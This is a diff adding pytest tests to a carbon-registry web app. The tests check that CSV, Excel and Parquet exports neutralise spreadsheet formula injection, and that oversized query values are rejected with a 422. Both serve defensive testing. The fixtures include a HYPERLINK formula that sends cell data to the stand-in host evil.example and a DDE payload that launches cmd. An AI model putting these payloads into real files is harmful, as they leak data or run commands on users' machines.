@@ -288,3 +288,60 @@ def test_signed_in_copies_of_a_shared_page_are_each_readers_own(site):
     # a change to the page (a new comment) reaches signed-in readers at once
     ana.post("/c/project/ART102/comments", {"body": "newer words"})
     assert "newer words" in ben.c.get("/projects/ART102", headers=HTML).text
+
+
+def test_export_cells_a_spreadsheet_would_run_are_prefixed(db_url, tmp_path):
+    """Registry text is not ours to trust: a name that is a formula arrives as text in CSV, Excel and Parquet."""
+    import io
+
+    import pandas as pd
+    import pyarrow.parquet as pq
+    from fastapi.testclient import TestClient
+    from openpyxl import load_workbook
+
+    from carbonscope.db.engine import make_engine
+    from carbonscope.db.migrate import upgrade
+    from carbonscope.ingest import ingest
+    from carbonscope.web.app import create_app
+    from tests.conftest import NATIVE
+    from tests.web.conftest import app_settings
+
+    p = pd.read_csv(NATIVE / "art-trees/projects.csv", dtype=str, keep_default_na=False)
+    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Guyana")'
+    p.loc[p["Program ID"] == "ART102", "Program Name"] = evil
+    p.loc[p["Program ID"] == "ART103", "Sovereign Program Developer"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    (tmp_path / "art").mkdir()
+    p.to_csv(tmp_path / "art" / "projects.csv", index=False)
+    engine = make_engine(db_url)
+    upgrade(engine)
+    ingest([tmp_path / "art" / "projects.csv"], engine)
+    with TestClient(create_app(app_settings(db_url, tmp_path))) as client:
+        csv_text = client.get("/api/v1/projects", params={"registry": "ART", "format": "csv"}).text
+        df = pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False).set_index("id")
+        wb = load_workbook(io.BytesIO(client.get("/api/v1/projects", params={"registry": "ART", "format": "xlsx"}).content))
+        table = pq.read_table(io.BytesIO(client.get("/api/v1/projects", params={"registry": "ART", "format": "parquet"}).content)).to_pandas().set_index("id")
+        shown = client.get("/api/v1/projects/ART102").json()["name"]
+    assert df.loc["ART102", "name"] == "'" + evil and df.loc["ART103", "proponent"].startswith("'@SUM")
+    ws = wb.active
+    header = [c.value for c in ws[1]]
+    names = {r[0].value: r[header.index("name")] for r in ws.iter_rows(min_row=2)}
+    assert names["ART102"].value == "'" + evil and names["ART102"].data_type == "s"  # a string, not a formula
+    assert table.loc["ART102", "name"] == "'" + evil
+    assert shown == evil  # the data itself is kept as the registry wrote it; only exports are made safe
+    assert (df["issued"].astype(int) >= 0).all()  # numbers are not touched
+    engine.dispose()
+
+
+def test_huge_integers_and_repeated_filters_are_422_not_500(client):
+    huge = "9" * 40
+    for url, params in (
+        (f"/api/v1/proposals/{huge}", {}),
+        ("/api/v1/projects", {"issued_min": huge}),
+        ("/api/v1/credits", {"quantity_max": huge}),
+        ("/api/v1/changes", {"after_id": huge}),
+        ("/api/v1/projects", {"methodology": ["VM0007"] * 1_001}),
+    ):
+        r = client.get(url, params=params)
+        assert r.status_code == 422, (url, r.status_code, r.text[:200])
+        assert r.headers["content-type"].startswith("application/problem+json")
+    assert client.get("/api/v1/projects", params={"issued_min": 2**62}).status_code == 200
